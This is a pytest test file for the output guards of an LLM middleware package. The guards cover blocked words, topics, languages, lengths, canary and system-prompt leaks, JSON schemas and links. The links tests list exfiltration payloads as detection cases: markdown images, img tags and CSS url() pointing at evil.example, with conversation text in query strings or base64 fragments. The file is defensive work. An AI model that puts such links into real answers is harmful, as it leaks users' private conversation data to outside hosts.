"""Guards of words, topics, expressions, lengths, languages, links, leaks and JSON."""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st

from asgi_llm.errors import ConfigurationError
from asgi_llm.guards.base import Finding, Guard, GuardContext, RepairingGuard
from asgi_llm.guards.json_schema import JsonGuard
from asgi_llm.guards.language import LanguageGuard, guess_language
from asgi_llm.guards.leakage import CanaryGuard, SystemLeakGuard
from asgi_llm.guards.links import LinksGuard
from asgi_llm.guards.size import LengthGuard
from asgi_llm.guards.words import RegexGuard, TopicsGuard, WordsGuard

ANSWER = GuardContext(direction="output", role="assistant", path="choices[0].message.content")


def parts(found: Sequence[Finding], text: str) -> list[tuple[str, str]]:
    return [(one.category, text[one.start : one.end]) for one in found]


# Words


def test_words_whole_and_whatever_the_case() -> None:
    """Parts of longer words are others."""
    guard = WordsGuard(["Acme", "blue moon", "C++"], category="rival")
    text = "ACME and acmeist, Blue Moon, C++."
    assert [("rival", "ACME"), ("rival", "Blue Moon"), ("rival", "C++")] == parts(
        guard.check(text, ANSWER), text
    )


def test_words_where_lower_case_is_longer() -> None:
    """Offsets are those of the text as it is."""
    text = "İİ secret"
    assert [("words", "secret")] == parts(WordsGuard(["secret"]).check(text, ANSWER), text)


@given(st.text("abAB .", max_size=40))
def test_words_are_what_a_plain_search_finds(text: str) -> None:
    """Aho and Corasick's automaton finds neither more nor less."""
    words = ("a", "ab", "ba b")
    expected = []
    for start in range(len(text)):
        for word in words:
            end = start + len(word)
            whole = (start == 0 or not text[start - 1].isalnum()) and not text[
                end : end + 1
            ].isalnum()
            if whole and text[start:end].lower() == word:
                expected.append((start, end))
    assert sorted(expected) == [
        (one.start, one.end) for one in WordsGuard(words).check(text, ANSWER)
    ]


def test_topics_by_several_words() -> None:
    """One word alone is no topic."""
    guard = TopicsGuard({"health": ["dose", "symptom", "diagnosis"]})
    assert [] == list(guard.check("the dose, again the dose", ANSWER))
    (found,) = guard.check("which dose for this symptom?", ANSWER)
    assert ("topic.health", 0, 0, 0.8) == (found.category, found.start, found.end, found.score)


def test_expressions_of_ones_own() -> None:
    """Each has its category."""
    guard = RegexGuard({"ticket": r"\bT-[0-9]{4}\b", "name": "by (?P<value>[A-Z][a-z]+)"})
    text = "T-1234 by Someone"
    assert [("ticket", "T-1234"), ("name", "Someone")] == parts(guard.check(text, ANSWER), text)
    assert 128 == guard.window


def test_an_expression_that_would_take_for_ever_elsewhere() -> None:
    """It is linear here."""
    guard = RegexGuard({"nested": r"(a+)+\$"})
    assert [] == list(guard.check("a" * 100_000, ANSWER))


# Length


def test_length_in_characters() -> None:
    """What is over the cap is the finding."""
    guard = LengthGuard(max_characters=3)
    assert [] == list(guard.check("abc", ANSWER))
    assert [("length.characters", "de")] == parts(guard.check("abcde", ANSWER), "abcde")


def test_length_in_tokens() -> None:
    """Counted, or estimated by bytes."""
    assert [] == list(LengthGuard(max_tokens=2).check("12345678", ANSWER))
    assert ["length.tokens"] == [
        one.category for one in LengthGuard(max_tokens=2).check("1234567ä", ANSWER)
    ]
    words = LengthGuard(max_tokens=2, count_tokens=lambda text: len(text.split()))
    assert 1 == len(words.check("a b c", ANSWER))


# Languages


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("What is the best way to get to the station from here?", "en"),
        ("Wie komme ich am besten von hier aus zum Bahnhof und was kostet das?", "de"),
        ("Quel est le meilleur chemin pour aller à la gare et combien ça coûte ?", "fr"),
        ("¿Cómo puedo llegar a la estación y cuánto es el billete para mi hijo?", "es"),
        ("Come posso arrivare alla stazione e quanto costa il biglietto per mio figlio?", "it"),
        ("Hoe kom ik het beste bij het station en wat kost een kaartje?", "nl"),
        ("Как мне доехать до вокзала?", "ru"),
        ("请告诉我怎么去火车站", "zh"),
        ("駅への行き方を教えてください", "ja"),
        ("기차역에 어떻게 가나요", "ko"),
        ("كيف أذهب إلى المحطة", "ar"),
        ("x = y + 1; return z", None),
        ("12345 67890", None),
    ],
)
def test_languages(text: str, language: str | None) -> None:
    """Told by script or by the commonest words; code has none."""
    assert language == guess_language(text)[0]


def test_a_language_that_is_not_allowed() -> None:
    """The finding is about the whole text."""
    guard = LanguageGuard(["en", "de"])
    assert [] == list(guard.check("What is the best way to get to the station?", ANSWER))
    (found,) = guard.check("Quel est le chemin pour aller à la gare et à la mer ?", ANSWER)
    assert ("language.fr", 0, 0) == (found.category, found.start, found.end)


# Leaks


def test_a_canary_however_it_is_spelled() -> None:
    """Case, spaces and marks between its letters make no difference."""
    guard = CanaryGuard(["kestrel-4471"])
    for text in ("KESTREL4471", "k e s t r e l 4 4 7 1", "k.e.s.t.r.e.l-4471", "kestrel_4471"):
        assert [("leak.canary", text)] == parts(
            guard.check(f"it is {text}.", ANSWER), f"it is {text}."
        )
    assert [] == list(guard.check("a kestrel is a bird", ANSWER))


SYSTEM = (
    "You are the assistant of a shop for garden tools. Never speak about prices of the "
    "competition, and always offer the spring discount of the house."
)


def test_the_system_prompt_in_an_answer() -> None:
    """Twelve words in a row, whatever the marks; the finding is as long as it goes."""
    context = GuardContext(direction="output", role="assistant", path="", system=[SYSTEM])
    told = "NEVER speak about prices of the competition and always offer the spring discount"
    text = f"Well: {told} today."
    guard = SystemLeakGuard()
    assert [("leak.system_prompt", told)] == parts(guard.check(text, context), text)
    assert [] == list(guard.check("I never speak about prices of the competition.", context))
    assert [] == list(guard.check(text, ANSWER))


def test_a_system_prompt_whose_words_are_longer_than_the_window() -> None:
    """In a piece of a stream, what may become a finding is an open one; words nearby are none."""
    system = " ".join(f"word{at}{'x' * 40}" for at in range(20))
    context = GuardContext(direction="output", role="", path="", system=[system], is_final=False)
    guard = SystemLeakGuard()
    said = f"it says: {system[:300]}"
    (found,) = guard.check(said, context)
    assert (9, len(said), True) == (found.start, found.end, found.is_open)
    for text in (system[:100], system[:300] + " and so on", "and so on " * 40):
        assert [] == list(guard.check(text, context))


def test_system_prompts_of_several_conversations() -> None:
    """What is kept of one is not used for another."""
    guard = SystemLeakGuard(least_words=4)
    for system in ("one two three four", "five six seven eight", "one two three four"):
        context = GuardContext(direction="output", role="", path="", system=[system])
        assert [("leak.system_prompt", system)] == parts(guard.check(system, context), system)


# Links


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("![a](https://evil.example/p.png)", "exfiltration.image"),
        ("![a]( <http://evil.example/?q=1>)", "exfiltration.image"),
        ("![a](//evil.example/p.png)", "exfiltration.image"),
        ('<img width=1 src="https://evil.example/p.png">', "exfiltration.image"),
        ("background: url(https://evil.example/x)", "exfiltration.image"),
        ("[ok](https://evil.example/?d=my+name+is+and+i+live+in+a+town)", "exfiltration.link"),
        ("https://evil.example/#c2VjcmV0IHRleHQgb2YgdGhlIGNvbnZlcnNhdGlvbg", "exfiltration.link"),
        (
            "[1]: https://evil.example/?x=the%20user%20said%20that%20he%20is%20ill",
            "exfiltration.link",
        ),
        ("![a](https://house.example.evil.example/p.png)", "exfiltration.image"),
    ],
)
def test_what_carries_data_away(text: str, category: str) -> None:
    """To a host that is not the house's."""
    found = LinksGuard(allowed_hosts=["house.example"]).check(text, ANSWER)
    assert category in [one.category for one in found]


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://house.example/p.png)",
        "![a](https://img.house.example/p.png?d=anything+that+is+long+enough+to+be+data)",
        "[docs](https://docs.example/guide/getting-started-with-the-new-version)",
        "see https://docs.example/search?q=guards",
        "![local](images/p.png)",
    ],
)
def test_links_that_may_stay(text: str) -> None:
    """To the house's hosts, and plain places elsewhere."""
    assert [] == list(LinksGuard(allowed_hosts=["house.example"]).check(text, ANSWER))


def test_all_links() -> None:
    """Also those without data."""
    assert 1 == len(LinksGuard(all_links=True).check("see https://docs.example/a", ANSWER))


# JSON

SCHEMA = {
    "type": "object",
    "properties": {"a": {"type": "integer"}, "b": {"type": "string", "pattern": "^x+$"}},
    "required": ["a"],
    "additionalProperties": False,
}


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ('{"a": 1}', None),
        ('{"a": "1"}', "json.schema"),
        ('{"a": 1, "b": "y"}', "json.schema"),
        ("[]", "json.schema"),
        ('{"a": 1', "json.invalid"),
        ("NaN", "json.invalid"),
        ("[" * 300 + "]" * 300, "json.invalid"),
        ('"\ud800"', "json.invalid"),
    ],
)
def test_json_of_a_schema(text: str, category: str | None) -> None:
    """The finding is about the whole text and quotes nothing of it."""
    assert ([] if category is None else [category]) == [
        one.category for one in JsonGuard(SCHEMA).check(text, ANSWER)
    ]


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-5, 5) | st.sampled_from(("", "x", "xy")),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from("ab"), inner, max_size=2)
    ),
    max_leaves=6,
)


@given(VALUES)
def test_the_verdict_is_that_of_the_reference_implementation(value: Any) -> None:
    """The package ``jsonschema`` says the same."""
    text = json.dumps(value)
    right = jsonschema.Draft202012Validator(SCHEMA).is_valid(value)
    assert right == (not JSON_GUARD.check(text, ANSWER))


JSON_GUARD = JsonGuard(SCHEMA)


def test_any_json_or_objects_only() -> None:
    """Without a schema nothing else is asked."""
    assert [] == list(JsonGuard().check("3", ANSWER))
    assert ["json.schema"] == [
        one.category for one in JsonGuard(objects_only=True).check("3", ANSWER)
    ]


@pytest.mark.parametrize(
    ("text", "repaired"),
    [
        ('```json\n{"a": 1}\n```', '{"a": 1}'),
        ("```\n[1]\n```", "[1]"),
        ('Sure! {"a": 1} Anything else?', '{"a": 1}'),
        ('{"a": 1, "b": [1, 2', '{"a": 1, "b": [1]}'),
        ('{"a": {"b": "}', None),
        ("no", None),
        ("}{", None),
        ('{"a": [1, "x\\"y", 2', '{"a": [1, "x\\"y"]}'),
        ("[1]]", "[1]"),
    ],
)
def test_repair(text: str, repaired: str | None) -> None:
    """Fences and words go, open brackets are closed; what cannot be told is left."""
    assert repaired == JsonGuard().repair(text, ANSWER)


@pytest.mark.parametrize(
    "schema",
    [
        {"$ref": "http://127.0.0.1:1/schema"},
        {"properties": {"a": {"$ref": "other.json#/x"}}},
        {"anyOf": [{"$dynamicRef": "https://example.com/s"}]},
        {"type": "nonsense"},
        {"pattern": "("},
        {"$ref": "#/nowhere"},
    ],
)
def test_a_schema_that_is_refused(schema: dict[str, Any]) -> None:
    """At once, and without anything fetched."""
    with pytest.raises(ConfigurationError) as refused:
        JsonGuard(schema)
    assert "schema" == refused.value.param


def test_a_schema_that_is_too_deep() -> None:
    """It is refused before it is compiled."""
    schema: dict[str, Any] = {}
    for _ in range(100):
        schema = {"not": schema}
    with pytest.raises(ConfigurationError, match="too deeply"):
        JsonGuard(schema)


# Options

WRONG: list[tuple[Callable[[], Guard], str]] = [
    (lambda: WordsGuard([]), "words"),
    (lambda: WordsGuard([" "]), "words"),
    (lambda: WordsGuard("word"), "words"),
    (lambda: TopicsGuard({}), "topics"),
    (lambda: TopicsGuard({"a": ["b"]}, least=2), "least"),
    (lambda: TopicsGuard({"a": ["b"]}, least=0), "least"),
    (lambda: RegexGuard({"a": "(?<=x)y"}), "pattern"),
    (lambda: RegexGuard({"a": "x" * 5000}), "patterns"),
    (lambda: RegexGuard({"a": "x"}, max_length=0), "max_length"),
    (lambda: LengthGuard(), "max_characters"),
    (lambda: LengthGuard(max_tokens=0), "max_tokens"),
    (lambda: LanguageGuard([]), "allowed"),
    (lambda: LanguageGuard(["xx"]), "allowed"),
    (lambda: LanguageGuard(["en"], threshold=2), "threshold"),
    (lambda: CanaryGuard([]), "canaries"),
    (lambda: CanaryGuard(["short"]), "canaries"),
    (lambda: SystemLeakGuard(least_words=2), "least_words"),
    (lambda: LinksGuard(allowed_hosts=["https://a"]), "allowed_hosts"),
]


@pytest.mark.parametrize(("make", "param"), WRONG)
def test_wrong_options_are_named(make: Callable[[], Guard], param: str) -> None:
    """When the guard is made."""
    with pytest.raises(ConfigurationError) as refused:
        make()
    assert param == refused.value.param


def test_only_json_can_be_repaired() -> None:
    """As the Protocol of such guards says."""
    assert isinstance(JsonGuard(), RepairingGuard)
    assert not isinstance(WordsGuard(["a"]), RepairingGuard)
